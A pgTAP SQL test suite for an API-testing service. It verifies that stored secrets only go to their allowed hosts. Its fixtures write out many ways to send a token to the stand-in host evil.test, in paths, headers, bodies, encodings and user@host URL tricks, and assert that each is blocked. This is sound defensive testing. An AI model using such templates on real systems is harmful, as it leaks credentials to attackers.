-- Allowed hosts: where a secret may go, however a test tries to send it elsewhere.
begin;
\ir _lib/people.psql
\ir _lib/factories.psql
\ir _lib/engine.psql
\ir _lib/leaks.psql
select plan(81);

create function tests.hosts_of(name text)
returns text[]
language sql
as $function$
    select listed.allowed_hosts from public.list_secrets(tests.id('staging')) as listed
    where listed.name = hosts_of.name;
$function$;

create function tests.setting(hosts text[], name text default 'api_token')
returns text
language sql
as $function$
    select format(
        'select public.set_secret_hosts(%L, %L, %L::text[])', tests.id('staging'), setting.name, setting.hosts
    );
$function$;

-- The default, and who changes it

select tests.act_as('adam');
select public.set_secret(tests.id('staging'), 'api_token', 'tok-LongEnough-42');
select is(tests.hosts_of('api_token'), '{api.test}', 'a secret may go to the host of its environment');
update public.environments set base_url = 'http://elsewhere.test:8080/x' where id = tests.id('staging');
select is(tests.hosts_of('api_token'), '{api.test}', 'another base URL does not widen that');
select public.set_secret(tests.id('staging'), 'api_token', 'tok-LongEnough-43');
select is(tests.hosts_of('api_token'), '{api.test}', 'nor does another value after it');
select public.rotate_secret(tests.id('staging'), 'api_token', 'tok-LongEnough-42');
select is(tests.hosts_of('api_token'), '{api.test}', 'or a rotation');
select public.set_secret(tests.id('staging'), 'late', 'tok-LongEnough-44');
select is(
    tests.hosts_of('late'), '{elsewhere.test:8080}', 'one that is set afterwards goes to the new host, and port'
);
select lives_ok(tests.setting(null, 'api_token'), 'an admin moves the old one there');
select is(tests.hosts_of('api_token'), '{elsewhere.test:8080}', 'without naming the host');
select public.set_secret(tests.id('staging'), 'chosen', 'tok-LongEnough-45', array['B.test', 'a.test.', 'b.test']);
select is(
    tests.hosts_of('chosen'), '{a.test,b.test}', 'they are given with the value too, and stored in one spelling'
);
select public.set_secret(tests.id('staging'), 'chosen', 'tok-LongEnough-46', '{}');
select is(tests.hosts_of('chosen'), '{}', 'none at all is allowed');
update public.environments set base_url = 'https://user:word@api.test/v1' where id = tests.id('staging');
select is(
    tests.slug_of(format('select public.set_secret(%L, %L, %L)', tests.id('staging'), 'x', 'tok-LongEnough-46')),
    'malformed_hosts', 'a base URL with a user in it names no host'
);
update public.environments set base_url = 'https://api.test/v1' where id = tests.id('staging');
select public.set_secret_hosts(tests.id('staging'), 'api_token', null);
select tests.act_as('eda');
select is(tests.slug_of(tests.setting('{evil.test}')), 'unknown_environment', 'an editor changes nothing');
select is(tests.hosts_of('api_token'), '{api.test}', 'but sees it');
select tests.act_as('vera');
select is(tests.slug_of(tests.setting('{evil.test}')), 'unknown_environment', 'a viewer neither');
select is(tests.hosts_of('api_token'), '{api.test}', 'and sees it too');
select tests.act_as('otto');
select is(tests.slug_of(tests.setting('{evil.test}')), 'unknown_environment', 'a stranger may not');
select is(
    tests.slug_of(format('select public.list_secrets(%L)', tests.id('staging'))), 'unknown_environment',
    'and sees nothing'
);
select tests.act_as_anon();
select throws_ok(tests.setting('{evil.test}'), '42501', null, 'nobody may call it');
select throws_ok(format('select public.list_secrets(%L)', tests.id('staging')), '42501', null, 'or look');
select tests.act_as('olga');
select is(tests.slug_of(tests.setting('{api.test}', 'nothing')), 'unknown_secret', 'a name that is none is refused');

-- What may be one

select is(tests.slug_of(tests.setting(array[entries.host])), 'malformed_hosts', entries.host || ' is none')
from (
    values ('https://api.test'), ('api.test/v1'), ('*'), ('*.test'), ('a*.test'), ('api.test:'), ('bücher.test'),
    ('user@api.test'), (''), ('*.0.0.1'), ('api test'), ('api..test'), ('*:443')
) as entries (host);
select is(
    tests.slug_of(tests.setting(array(select 'h' || number || '.test' from generate_series(1, 101) as number))),
    'malformed_hosts', 'and a hundred are enough'
);
select lives_ok(
    tests.setting(array['*.api.test', '10.0.0.1', '[::1]:8080', 'a_b.test', 'localhost:3000', 'xn--bcher-kva.test']),
    'these are'
);
select tests.act_as_owner();

-- Which address a URL is, and what matches it

select is(private.address_of(urls.url), urls.address, urls.url)
from (
    values
    ('https://Api.Test/x', 'api.test:443'), ('http://api.test', 'api.test:80'),
    ('https://api.test.:8443?x', 'api.test:8443'), ('https://api.test:0443#x', 'api.test:443'),
    ('https://[::1]:80/', '[::1]:80'), ('https://good.test@evil.test/', null),
    ('https://good.test\@evil.test/', null), ('https://good.test%2eevil.test/', null),
    ('https://bücher.test/', null), ('https:///x', null), ('https://good.test:80@evil.test/', null),
    ('https://good.test .evil.test/', null), (E'https://good.test\t/', null), ('ftp://good.test/', null)
) as urls (url, address);
select is(private.may_go_to(tries.address, tries.hosts), tries.may, format('%s, %s', tries.address, tries.hosts))
from (
    values
    ('api.test:443', '{api.test}'::text[], true), ('api.test:80', '{api.test}', true),
    ('api.test:8443', '{api.test}', false), ('api.test:8443', '{api.test:8443}', true),
    ('api.test:80', '{api.test:443}', false), ('a.api.test:443', '{*.api.test}', true),
    ('a.b.api.test:80', '{*.api.test}', true), ('api.test:443', '{*.api.test}', false),
    ('evilapi.test:443', '{*.api.test}', false), ('api.test.evil.test:443', '{api.test,*.api.test}', false),
    ('a.api.test:99', '{*.api.test}', false), ('a.api.test:99', '{*.api.test:99}', true),
    ('api.test:443', '{}', false)
) as tries (address, hosts, may);
select is(private.narrow_hosts(pairs.one, pairs.other), pairs.common, format('%s and %s', pairs.one, pairs.other))
from (
    values
    ('{a.test,b.test}'::text[], '{b.test,c.test}'::text[], '{b.test}'::text[]),
    ('{*.a.test}', '{x.a.test,a.test}', '{x.a.test}'), ('{x.a.test:443}', '{*.a.test,x.a.test}', '{x.a.test:443}'),
    ('{*.b.a.test}', '{*.a.test}', '{*.b.a.test}'), ('{a.test}', '{b.test}', '{}')
) as pairs (one, other, common);

-- However it is sent

select public.set_secret_hosts(tests.id('staging'), 'api_token', null);
select tests.make_test(ways.name, 'flow', ways.settings::jsonb || '{"assertions": []}')
from (
    values
    ('in path', '{"path": "https://evil.test/{{api_token}}"}'),
    ('in query', '{"path": "https://evil.test/", "query": [["q", "{{api_token}}"]]}'),
    ('in header', '{"path": "https://evil.test/", "headers": [["X-Key", "{{api_token}}"]]}'),
    ('in header name', '{"path": "https://evil.test/", "headers": [["X-{{api_token}}", "1"]]}'),
    ('in body', '{"method": "POST", "path": "https://evil.test/", "body": {"kind": "json", "value": ["{{api_token}}"]}}'),
    ('in form', '{"method": "POST", "path": "https://evil.test/", "body": {"kind": "form", "value": [["a", "{{api_token}}"]]}}'),
    ('in auth', '{"path": "https://evil.test/", "auth": {"kind": "bearer", "token": "{{api_token}}"}}'),
    ('as key', '{"path": "https://evil.test/", "auth": {"kind": "jwt_hs256", "secret": "{{api_token}}"}}'),
    ('in credential', '{"path": "https://evil.test/", "auth": {"credential": "robot"}}'),
    ('encoded', '{"path": "https://evil.test/{{api_token | base64}}"}'),
    ('digested', '{"path": "https://evil.test/{{api_token | sha256}}"}'),
    ('signed', '{"path": "https://evil.test/{{api_token | hmac_sha256(\"k\")}}"}'),
    ('by user', '{"path": "https://api.test@evil.test/{{api_token}}"}'),
    ('as user', '{"path": "https://{{api_token}}@api.test/"}'),
    ('as host', '{"path": "https://{{api_token}}.evil.test/"}'),
    ('by variable', '{"path": "https://{{host}}/{{api_token}}"}'),
    ('in plain text', '{"path": "http://api.test:8080/{{api_token}}"}')
) as ways (name, settings);
insert into public.api_credentials (organization_id, name, auth)
values (tests.id('acme'), 'robot', '{"kind": "basic", "username": "x", "password": "{{api_token}}"}');
savepoint ways;
select tests.queue('run', '{}', '{"host": "evil.test"}');
select tests.run_all();
select is_empty($$ select test from tests.handed_out $$, 'however a test would send a secret elsewhere, no request is sent');
select results_eq(
    $$ select distinct status, category, slug, attempt_count from public.test_results where run_id = tests.run('run') $$,
    $$ values ('error', 'egress', 'secret_host_denied', 0) $$, 'each result says so'
);
select is(
    (tests.result('run', 'in header')).message,
    'the secret {{api_token}} may not go to evil.test: its allowed hosts are api.test',
    'naming the secret, the host and where it may go'
);
select is(
    (tests.result('run', 'as host')).message,
    'the secret {{api_token}} may not go to [redacted].evil.test: its allowed hosts are api.test', 'but not telling it'
);
select is_empty($$ select tests.leaks('LongEnough-42') $$, 'and no table holds it');
select is_empty($$ select from tests.check_run('run') $$, 'the run is whole');
select is(tests.run_status('run'), 'error', 'and over');

-- Also where only the verdict would tell

rollback to ways;
update public.test_cases set is_enabled = false where name <> 'in plain text';
select tests.make_test(
    'guess', 'flow',
    '{"path": "https://evil.test/", "assertions": [{"source": "body", "path": "$.guess", "operator": "equals", "expected": "{{api_token}}"}]}'
);
select tests.queue('run', tests.only('guess'));
select tests.run_all('{"guess": {"body": {"guess": "tok-LongEnough-42"}}}');
select is(
    (tests.result('run', 'guess')).slug, 'secret_host_denied', 'no other host may have its answer compared with a secret'
);
select tests.make_test('plain', 'flow', '{"path": "https://evil.test/{{given}}/{{api_token}}", "assertions": []}');
select tests.queue('given', tests.only('plain'), '{"api_token": "{{late}}", "given": "{{api_token}}"}');
select tests.run_all();
select is(
    tests.request('plain') ->> 'url', 'https://evil.test/%7B%7Bapi_token%7D%7D/%7B%7Blate%7D%7D',
    'a value of the run is no template, and hides the secret of its name'
);

-- To where it may go

select public.set_secret_hosts(tests.id('staging'), 'api_token', '{evil.test}');
select tests.queue('moved', tests.only('guess'));
select tests.run_all('{"guess": {"body": {"guess": "tok-LongEnough-42"}}}');
select is((tests.result('moved', 'guess')).status, 'passed', 'an allowed host gets it, in the next run');
select tests.make_test('home', 'flow', '{"path": "/{{api_token}}"}');
select tests.queue('home', tests.only('home'));
select public.set_secret_hosts(tests.id('staging'), 'api_token', '{api.test}');
select tests.claim('1');
select is(tests.request('home') ->> 'url', 'https://api.test/v1/tok-LongEnough-42', 'and in one that is under way');
select public.set_secret_hosts(tests.id('staging'), 'api_token', '{}');
select is(tests.claim('1'), '{home}', 'a claim that is repeated');
select is(
    (select count(*) from tests.handed_out where claim = '1'), 1::bigint, 'does not hand it out again meanwhile'
);

-- To be used up

select is_empty(
    $$ select from public.list_secrets(tests.id('staging')) as listed where listed.name = 'api_token' and last_used_at is null $$,
    'it is known when a secret was used'
);
select is(
    (select last_used_at from public.list_secrets(tests.id('staging')) as listed where listed.name = 'late'), null,
    'and which never was'
);

select * from finish();
rollback;
